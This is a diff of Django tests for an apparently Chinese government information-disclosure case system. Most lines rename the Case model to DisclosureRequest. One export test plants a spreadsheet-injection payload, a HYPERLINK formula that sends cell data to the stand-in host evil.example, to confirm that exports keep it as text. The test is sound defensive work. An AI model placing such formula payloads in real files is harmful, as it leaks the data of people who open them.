@@ -11,7 +11,7 @@ from django.urls import reverse
 
 from gongkai.casework.errors import CaseworkError
 from gongkai.web.cases import services
-from gongkai.web.cases.models import Case
+from gongkai.web.cases.models import DisclosureRequest
 
 
 def _post_event(c, case, kind, **fields):
@@ -64,14 +64,14 @@ def test_refused_transition_shows_the_engines_chinese_reason(world, client):
 
 
 def test_two_clerks_editing_at_once_the_second_save_is_refused(world):
-    stale = Case.objects.get(pk=world.case_a.pk)
+    stale = DisclosureRequest.objects.get(pk=world.case_a.pk)
     services.apply_event(world.clerk_a, world.case_a, 1, "accept", dt.date(2025, 3, 4))
     with pytest.raises(services.EditConflict, match="已被他人修改"):
         services.edit(world.clerk_a, stale, stale.version, {"contact": "13000000000"})
     with pytest.raises(services.EditConflict):
         services.apply_event(world.clerk_a, stale, stale.version, "respond", dt.date(2025, 3, 5),
                              {"disposition": "granted"})
-    fresh = Case.objects.get(pk=world.case_a.pk)
+    fresh = DisclosureRequest.objects.get(pk=world.case_a.pk)
     assert fresh.contact == "13812345678" and fresh.state == "in_progress" and fresh.events.count() == 1
 
 
@@ -102,7 +102,7 @@ def test_worklist_tabs_overdue_and_paused(world, client):
     from django.test import override_settings
     with override_settings(GONGKAI_TODAY=dt.date(2025, 4, 15)):
         assert world.case_a.number in client.get(url + "?tab=overdue").content.decode()
-    case = Case.objects.get(pk=world.case_a.pk)
+    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
     services.apply_event(world.clerk_a, case, case.version, "start_consultation", dt.date(2025, 3, 5),
                          {"party": "某公司"})
     assert world.case_a.number in client.get(url + "?tab=paused").content.decode()
@@ -146,7 +146,7 @@ def test_application_received_after_today_is_refused_at_intake(world, client):
     r = client.post(reverse("cases:new"), {"requester_name": "王某", "applicant_type": "natural_person",
                                            "channel": "post", "signed_on": "2025-03-21"})
     assert r.status_code == 200 and "收到申请之日 2025-03-21 晚于今天 2025-03-20" in r.content.decode()
-    assert not Case.objects.filter(requester_name="王某").exists()
+    assert not DisclosureRequest.objects.filter(requester_name="王某").exists()
 
 
 def test_extension_requested_for_a_future_date_is_refused(world):
@@ -162,7 +162,7 @@ def test_exports_keep_an_applicants_formula_as_text(world, client):
 
     from openpyxl import load_workbook
     evil = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
-    Case.objects.filter(pk=world.case_a.pk).update(description=evil, requester_name="@SUM(1+1)")
+    DisclosureRequest.objects.filter(pk=world.case_a.pk).update(description=evil, requester_name="@SUM(1+1)")
     client.force_login(world.clerk_a)
     body = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode("utf-8-sig")
     rows = list(csvmod.reader(iomod.StringIO(body)))
@@ -209,10 +209,10 @@ def test_a_clerk_imports_the_offices_ledger_all_or_nothing(world, client):
     r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(bad)})
     page = r.content.decode()
     assert r.status_code == 200 and "台账没有导入" in page and "第5行「申请人类型」" in page
-    assert not Case.objects.filter(number__startswith="2024-1").exists()  # nothing half-way
+    assert not DisclosureRequest.objects.filter(number__startswith="2024-1").exists()  # nothing half-way
     r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(good)}, follow=True)
     assert "已从台账「台账.xlsx」导入 3 件申请" in r.content.decode()
-    by = {c.number: c for c in Case.objects.filter(agency=world.a, number__startswith="2024-1")}
+    by = {c.number: c for c in DisclosureRequest.objects.filter(agency=world.a, number__startswith="2024-1")}
     assert (by["2024-101"].state, by["2024-101"].disposition) == ("closed", "granted")
     assert by["2024-102"].state == "in_progress" and by["2024-102"].due is not None  # the clock runs as for any case
     assert by["2024-103"].state == "withdrawn"
@@ -223,7 +223,7 @@ def test_a_clerk_imports_the_offices_ledger_all_or_nothing(world, client):
     # the same ledger again: every number is taken, nothing imported
     r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(good)})
     assert "本机关已有编号为 2024-101 的申请" in r.content.decode()
-    assert Case.objects.filter(agency=world.a).count() == 4
+    assert DisclosureRequest.objects.filter(agency=world.a).count() == 4
 
 
 def test_ledger_import_is_for_case_roles_only(world, client):
@@ -237,26 +237,27 @@ def test_the_ledger_event_is_not_offered_or_accepted_on_a_case_page(world, clien
     assert "台账导入办理结果" not in page and "event/import/" not in page
     r = client.post(reverse("cases:event", args=[world.case_a.pk, "import"]),
                     {"import-version": world.case_a.version, "import-on": "2025-03-10", "import-disposition": "granted"})
-    assert r.status_code == 404 and Case.objects.get(pk=world.case_a.pk).state == world.case_a.state
+    assert r.status_code == 404 and DisclosureRequest.objects.get(pk=world.case_a.pk).state == world.case_a.state
 
 
 def test_an_extension_is_decided_when_the_head_approves_it_and_not_after_the_deadline(world, client, settings):
-    case = Case.objects.get(pk=world.case_a.pk)  # received 2025-03-03, due 2025-03-31
+    case = DisclosureRequest.objects.get(pk=world.case_a.pk)  # received 2025-03-03, due 2025-03-31
     services.apply_event(world.clerk_a, case, case.version, "accept", dt.date(2025, 3, 4))
     client.force_login(world.clerk_a)
     client.post(reverse("cases:extension", args=[case.pk, "request"]),
-                {"extreq-version": Case.objects.get(pk=case.pk).version, "extreq-on": "2025-03-10",
+                {"extreq-version": DisclosureRequest.objects.get(pk=case.pk).version, "extreq-on": "2025-03-10",
                  "extreq-days": 10, "extreq-reason": "需要调取档案"})
     head = world.reviewer_a
     client.force_login(head)
     settings.GONGKAI_TODAY = dt.date(2025, 4, 2)  # the head approves after the period has run out
     r = client.post(reverse("cases:extension", args=[case.pk, "approve"]),
-                    {"version": Case.objects.get(pk=case.pk).version}, follow=True)
+                    {"version": DisclosureRequest.objects.get(pk=case.pk).version}, follow=True)
     assert "不能在期满后延期" in r.content.decode()
-    assert Case.objects.get(pk=case.pk).due == dt.date(2025, 3, 31)
+    assert DisclosureRequest.objects.get(pk=case.pk).due == dt.date(2025, 3, 31)
     settings.GONGKAI_TODAY = dt.date(2025, 3, 20)
-    client.post(reverse("cases:extension", args=[case.pk, "approve"]), {"version": Case.objects.get(pk=case.pk).version})
-    ext = Case.objects.get(pk=case.pk).events.get(kind="extend")
+    client.post(reverse("cases:extension", args=[case.pk, "approve"]),
+                {"version": DisclosureRequest.objects.get(pk=case.pk).version})
+    ext = DisclosureRequest.objects.get(pk=case.pk).events.get(kind="extend")
     assert ext.on == dt.date(2025, 3, 20) and ext.data["requested_on"] == "2025-03-10"
 
 
@@ -287,13 +288,13 @@ def test_intake_receipt_date_follows_the_channel_under_article_31(world, client)
     base = {"requester_name": "王某", "applicant_type": "natural_person"}
     r = client.post(reverse("cases:new"), {**base, "channel": "post", "submitted_on": "2025-03-03",
                                            "signed_on": "2025-03-05", "confirmed_on": "2025-03-06"}, follow=True)
-    case = Case.objects.filter(requester_name="王某").latest("id")
+    case = DisclosureRequest.objects.filter(requester_name="王某").latest("id")
     assert case.received_on == dt.date(2025, 3, 5) and "已登记申请" in r.content.decode()
     r = client.post(reverse("cases:new"), {**base, "channel": "post", "submitted_on": "2025-03-03"})
     assert r.status_code == 200 and "邮寄提交的申请，需要签收日期才能确定收到申请之日" in r.content.decode()
     client.post(reverse("cases:new"), {**base, "requester_name": "赵某", "channel": "in_person",
                                        "submitted_on": "2025-03-03", "signed_on": "2025-03-05"})
-    assert Case.objects.get(requester_name="赵某").received_on == dt.date(2025, 3, 3)
+    assert DisclosureRequest.objects.get(requester_name="赵某").received_on == dt.date(2025, 3, 3)
 
 
 def test_append_row_keeps_formula_text_as_text_on_normal_and_write_only_sheets():
@@ -335,7 +336,7 @@ def test_reply_outcome_choice_is_grouped_as_table_three_and_closed_rows_name_the
     # the lapse rows (（六）1、2) are reached by the lapse events only, never chosen in a reply
     assert 'value="other_other"' in other and "other_correction_not_supplied" not in select \
         and "other_fee_not_paid" not in select
-    case = Case.objects.get(pk=world.case_a.pk)
+    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
     services.apply_event(world.clerk_a, case, case.version, "respond", dt.date(2025, 3, 20),
                          {"disposition": "withheld_state_secret", "reason": "经定密属于国家秘密"})
     rows = client.get(reverse("cases:worklist") + "?tab=all").content.decode()
@@ -359,14 +360,14 @@ def test_handler_is_chosen_from_the_agencys_case_users_in_assign_and_registratio
     assert sorted(values) == ["clerk_a", "reviewer_a", "signer_a"]
     assert "审核人" in select and "clerk_b" not in select and "离职者" not in select
     r = _post_event(client, world.case_a, "assign", on="2025-03-04", handler="reviewer_a")
-    case = Case.objects.get(pk=world.case_a.pk)
+    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
     assert case.handler == "reviewer_a"
     ev = case.events.order_by("-seq").first()
     assert ev.kind == "assign" and ev.data == {"handler": "reviewer_a"}  # the engine event is unchanged
     # a name that is not one of the agency's users is refused, nothing recorded
     n = case.events.count()
     r = _post_event(client, world.case_a, "assign", on="2025-03-05", handler="clerk_b")
-    assert "未保存" in r.content.decode() and Case.objects.get(pk=case.pk).events.count() == n
+    assert "未保存" in r.content.decode() and DisclosureRequest.objects.get(pk=case.pk).events.count() == n
     # registration offers the same list; left empty, the registering user handles it
     new = client.get(reverse("cases:new")).content.decode()
     reg = re.search(r'<select name="handler".*?</select>', new, re.S).group(0)
@@ -374,11 +375,11 @@ def test_handler_is_chosen_from_the_agencys_case_users_in_assign_and_registratio
     base = {"requester_name": "王某", "applicant_type": "natural_person", "channel": "in_person",
             "submitted_on": "2025-03-06", "description": "某项目批复", "form": "纸质"}
     client.post(reverse("cases:new"), {**base, "handler": "signer_a"})
-    assert Case.objects.get(requester_name="王某").handler == "signer_a"
+    assert DisclosureRequest.objects.get(requester_name="王某").handler == "signer_a"
     client.post(reverse("cases:new"), {**base, "requester_name": "赵某"})
-    assert Case.objects.get(requester_name="赵某").handler == "clerk_a"
+    assert DisclosureRequest.objects.get(requester_name="赵某").handler == "clerk_a"
     r = client.post(reverse("cases:new"), {**base, "requester_name": "钱某", "handler": "clerk_b"})
-    assert r.status_code == 200 and not Case.objects.filter(requester_name="钱某").exists()
+    assert r.status_code == 200 and not DisclosureRequest.objects.filter(requester_name="钱某").exists()
 
 
 def test_case_page_offers_only_the_steps_the_statute_still_allows(world, client, settings):
@@ -432,7 +433,7 @@ def test_the_intake_form_sent_twice_registers_one_case_and_shows_it(world, clien
             "signed_on": "2025-03-05", "submission": token}
     first = client.post(reverse("cases:new"), data)
     again = client.post(reverse("cases:new"), data, follow=True)
-    cases = Case.objects.filter(requester_name="重复某")
+    cases = DisclosureRequest.objects.filter(requester_name="重复某")
     assert cases.count() == 1
     assert first.url == reverse("cases:detail", args=[cases.get().pk])
     assert again.redirect_chain[-1][0] == first.url
@@ -440,7 +441,7 @@ def test_the_intake_form_sent_twice_registers_one_case_and_shows_it(world, clien
     # a new rendering of the form is a new application
     token2 = client.get(reverse("cases:new")).content.decode().split('name="submission" value="', 1)[1][:16]
     client.post(reverse("cases:new"), {**data, "submission": token2})
-    assert Case.objects.filter(requester_name="重复某").count() == 2
+    assert DisclosureRequest.objects.filter(requester_name="重复某").count() == 2
 
 
 def test_the_case_timeline_names_the_told_date_in_words_not_internal_keys(world, client, settings):
